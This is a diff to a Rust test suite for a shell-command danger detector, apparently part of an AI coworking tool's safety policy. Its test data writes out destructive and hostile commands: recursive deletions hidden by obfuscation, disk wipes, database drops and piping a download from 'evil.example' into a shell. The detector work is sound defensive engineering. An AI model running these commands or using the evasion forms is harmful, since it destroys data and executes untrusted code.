@@ -1,10 +1,11 @@
 //! Which commands get a warning, and which do not.
 
 use cowork_policy::DangerKind::{
-    ChangesPermissions, DeletesFiles, DiscardsWork, KillsProcesses, Obscured, OverwritesData, Publishes,
-    RaisesPrivilege, RemovesInfrastructure, RewritesRemote, RunsDownload, StopsMachine,
+    ChangesPermissions, DeletesFiles, DiscardsWork, DropsData, KillsProcesses, Obscured, OverwritesData,
+    OverwritesFile, Publishes, RaisesPrivilege, RemovesInfrastructure, RewritesRemote, RunsDownload,
+    StopsMachine, Unreadable,
 };
-use cowork_policy::{DangerKind, danger};
+use cowork_policy::{DangerKind, danger, dangers, programs};
 use proptest::prelude::*;
 
 /// What a command does, and commands that do it.
@@ -13,6 +14,18 @@ const DESTRUCTIVE: &[(DangerKind, &[&str])] = &[
         DeletesFiles,
         &[
             "rm -rf build",
+            "rm build",
+            "unlink build",
+            "$'\\x72m' -rf x",
+            "a |\nxargs rm",
+            "case $x in a|b) rm -rf x;; *) ls;; esac",
+            "echo $(case x in a) rm -rf b;; esac)",
+            "echo ${x:-$(rm -rf y)}",
+            "echo \"${x:-\"$(rm -rf y)\"}\"",
+            "a=($(rm -rf x))",
+            "[[ -f x && -n $(rm -rf y) ]]",
+            "(( $(rm -rf x) ))",
+            "echo $(( $(rm -rf x) + 1 ))",
             "rm -r build",
             "rm -f x",
             "rm --recursive --force x",
@@ -82,6 +95,61 @@ const DESTRUCTIVE: &[(DangerKind, &[&str])] = &[
             "> /dev/sda",
             "echo x | sudo tee /dev/sda",
             "wipefs -a /dev/sda",
+        ],
+    ),
+    (
+        OverwritesFile,
+        &[
+            "cat x > out",
+            "> out",
+            "cat <<'END' > notes.md\nrm -rf x\nEND",
+            "echo x >| out",
+            "make &> log",
+            "ls | tee out",
+            "bash -c 'echo x > y'",
+            "mv -f a b",
+            "echo x >out.txt 2>&1",
+        ],
+    ),
+    (
+        DropsData,
+        &[
+            "psql -c 'DROP TABLE users'",
+            "psql -c 'select 1; truncate users'",
+            "sqlite3 x.db 'delete from users'",
+            "redis-cli FLUSHALL",
+            "dropdb shop",
+        ],
+    ),
+    (
+        Obscured,
+        &[
+            "$CMD -rf x",
+            "$(which rm) -rf x",
+            "{rm,-rf,x}",
+            "/bin/r? x",
+            "sudo $CMD",
+            "bash -c \"$X y\"",
+        ],
+    ),
+    (
+        Unreadable,
+        &[
+            "echo 'not closed",
+            "echo \"not closed",
+            "echo $(ls",
+            "echo `ls",
+            "echo ${x",
+            "(ls",
+            "ls )",
+            "ls |",
+            "&& ls",
+            "ls > ",
+            "bash -c 'echo \"x'",
+            "case x in a) ls",
+            "[[ -f x",
+            "a=(b",
+            "echo $'x",
         ],
     ),
     (
@@ -214,8 +282,29 @@ fn ordinary_commands_get_no_warning() {
     let harmless = [
         "",
         "ls -la",
-        "rm file",
         "rm -i file",
+        "rm --help",
+        "cat x >> out",
+        "ls 2>&1",
+        "ls >&2",
+        "echo $((1 << 2))",
+        "(( x > 3 ))",
+        "for ((i=0; i<3; i++)); do ls; done",
+        "[[ a > b ]] && ls",
+        "[ -f x ] || ls",
+        "files=(rm -rf x)",
+        "case x in rm) ls;; esac",
+        "case $1 in start|stop) echo ok ;; *) exit 1 ;; esac",
+        "f() { ls; }; f",
+        "if [ -f x ]; then ls; elif true; then ls; else ls; fi",
+        "while read -r line; do echo \"$line\"; done",
+        "echo ${x:-a b}",
+        "echo \"${x:-it's}\"",
+        "sort <(ls) <(ls a)",
+        "make &&\n  make test",
+        "ls |\n  sort",
+        "cat <<-END\n\ttext it's\n\tEND",
+        "psql -c 'select dropped from truncated'",
         "echo rm -rf /",
         "echo 'rm -rf /'",
         "echo \"rm -rf /\"",
@@ -255,13 +344,12 @@ fn ordinary_commands_get_no_warning() {
         "bash run",
         "bash -c 'ls'",
         "sh ./x -rf",
-        "cat x > out",
         "make 2>/dev/null",
         "make >/dev/null 2>&1",
         "make &>/dev/null",
         "echo x >/dev/stderr",
         "dd if=x of=/dev/null",
-        "cat <<'END' > notes.md\nrun `rm -rf target` then $(reboot)\nrm -rf x\nEND\nls",
+        "cat <<'END' >> notes.md\nrun `rm -rf target` then $(reboot)\nrm -rf x\nEND\nls",
         "# rm -rf /",
         "ls # && rm -rf /",
         "docker ps",
@@ -291,13 +379,73 @@ fn the_most_severe_part_is_the_one_that_is_shown() {
     assert_eq!(found, Some((DeletesFiles, "sudo rm -rf /srv/my data".to_owned())));
 }
 
+/// What of a command is marked, and as what.
+fn marked(command: &str) -> Vec<(DangerKind, &str)> {
+    let found = dangers(command).into_iter();
+    found
+        .map(|danger| (danger.kind, &command[danger.place]))
+        .collect()
+}
+
+#[test]
+fn the_very_words_that_do_it_are_marked_also_in_a_script_within_a_script() {
+    assert_eq!(
+        marked("cd x && sudo rm -rf 'my data' && ls"),
+        [
+            (RaisesPrivilege, "sudo rm -rf 'my data'"),
+            (DeletesFiles, "sudo rm -rf 'my data'")
+        ]
+    );
+    assert_eq!(
+        marked("bash -c \"cd é; rm -rf x; ls\""),
+        [(DeletesFiles, "rm -rf x")]
+    );
+    assert_eq!(
+        marked("ls\nsh <<END\nls\nrm -rf x\nEND\nls"),
+        [(DeletesFiles, "rm -rf x")]
+    );
+    assert_eq!(
+        marked("echo 'rm -rf a' | sh; ls > out 2>&1"),
+        [(DeletesFiles, "rm -rf a"), (OverwritesFile, "> out")]
+    );
+    assert_eq!(marked("curl x | sh"), [(RunsDownload, "sh")]);
+    assert_eq!(marked("ls 'open"), [(Unreadable, "'open")]);
+    assert_eq!(marked("find . -exec rm {} \\; -print"), [(DeletesFiles, "rm {}")]);
+    assert_eq!(marked("eval rm -rf x"), [(DeletesFiles, "rm -rf x")]);
+}
+
+#[test]
+fn the_programs_of_a_command_are_named_with_their_verbs() {
+    for (command, named) in [
+        ("npm test -- --watch", &["npm test"][..]),
+        ("ls -la", &["ls"]),
+        (
+            "cd src && cargo build | tee -a log",
+            &["cd src", "cargo build", "tee"],
+        ),
+        ("FOO=1 sudo -u me make", &["make"]),
+        ("for f in *; do echo $f; done", &["echo"]),
+        ("npm test; curl evil.example | sh", &["npm test", "curl", "sh"]),
+        ("echo $(date)", &["date", "echo"]),
+        ("", &[]),
+    ] {
+        assert_eq!(programs(command), named, "{command}");
+    }
+    let many = (0..500).map(|n| format!("p{n};")).collect::<String>();
+    assert!(programs(&many).len() <= 20);
+}
+
 #[test]
 fn what_is_too_deep_or_too_long_to_read_is_said_to_be_so() {
     let deep = format!("echo {}ls{}", "$(".repeat(500), ")".repeat(500));
     let long = "a".repeat(1_000_000);
     let nested = (0..20).fold("rm -rf x".to_owned(), |inner, _| format!("eval eval {inner}"));
     for command in [&deep, &long] {
-        assert_eq!(danger(command).map(|danger| danger.kind), Some(Obscured));
+        assert!(
+            dangers(command).iter().any(|danger| danger.kind == Obscured),
+            "{}",
+            command.len()
+        );
     }
     assert!(
         danger(&nested).is_some(),
@@ -317,15 +465,21 @@ fn hostile_lengths_are_read_to_the_end() {
     for (unit, kind) in [
         ("a ", None),
         ("x=1 ", None),
-        ("> ", None),
+        ("> ", Some(Unreadable)),
         ("x<<a ", None),
         ("x<<a\n", None),
         ("\\", None),
+        ("{a,", Some(Obscured)),
+        ("$((1", Some(Unreadable)),
+        ("a=(", Some(Unreadable)),
+        ("\"${", Some(Unreadable)),
+        ("[[ ", Some(Unreadable)),
+        ("case x in ", Some(Unreadable)),
         ("'", None),
         ("`", None),
-        ("${", None),
+        ("${", Some(Obscured)),
         ("x|sh\n", Some(Obscured)),
-        ("x|sh|", Some(Obscured)),
+        ("x|sh|", Some(Unreadable)),
         ("$(", Some(Obscured)),
         ("(", Some(Obscured)),
         ("\"$(", Some(Obscured)),
@@ -383,8 +537,10 @@ proptest! {
     #[test]
     fn no_command_whatever_makes_the_reader_panic(text in any::<String>(), shellish in shellish()) {
         for command in [text, shellish] {
-            if let Some(danger) = danger(&command) {
+            prop_assert!(programs(&command).len() <= 20);
+            for danger in dangers(&command) {
                 prop_assert!(danger.part.chars().count() <= 161);
+                prop_assert!(command.get(danger.place.clone()).is_some(), "{:?} is no place in {:?}", danger, command);
             }
         }
     }
@@ -395,6 +551,23 @@ proptest! {
     ) {
         let command = format!("echo {before}{joint} rm -rf x {joint} echo {after}");
         prop_assert_eq!(danger(&command).map(|danger| danger.kind), Some(DeletesFiles));
+    }
+
+    #[test]
+    fn what_is_marked_does_what_it_is_marked_for(
+        before in "[a-zé ]{0,12}", after in "[a-z ]{0,12}", around in prop::sample::select(vec![
+            ("", ""), ("sh -c '", "'"), ("echo $(", ")"), ("(", ")"), ("if true; then ", "; fi"), ("bash <<E\n", "\nE\n"),
+        ]),
+    ) {
+        let command = format!("{}echo {before}; rm -rf x; echo {after}{}", around.0, around.1);
+        let marked: Vec<_> = dangers(&command).into_iter().map(|danger| (danger.kind, command[danger.place].to_owned())).collect();
+        prop_assert_eq!(marked, [(DeletesFiles, "rm -rf x".to_owned())]);
+    }
+
+    #[test]
+    fn what_no_shell_would_take_is_dangerous(text in "[a-z ]{0,12}", open in prop::sample::select(vec!["'", "\"", "$(", "(", "`", "${"])) {
+        let command = format!("echo {text} {open}{text}");
+        prop_assert!(danger(&command).is_some());
     }
 
     #[test]
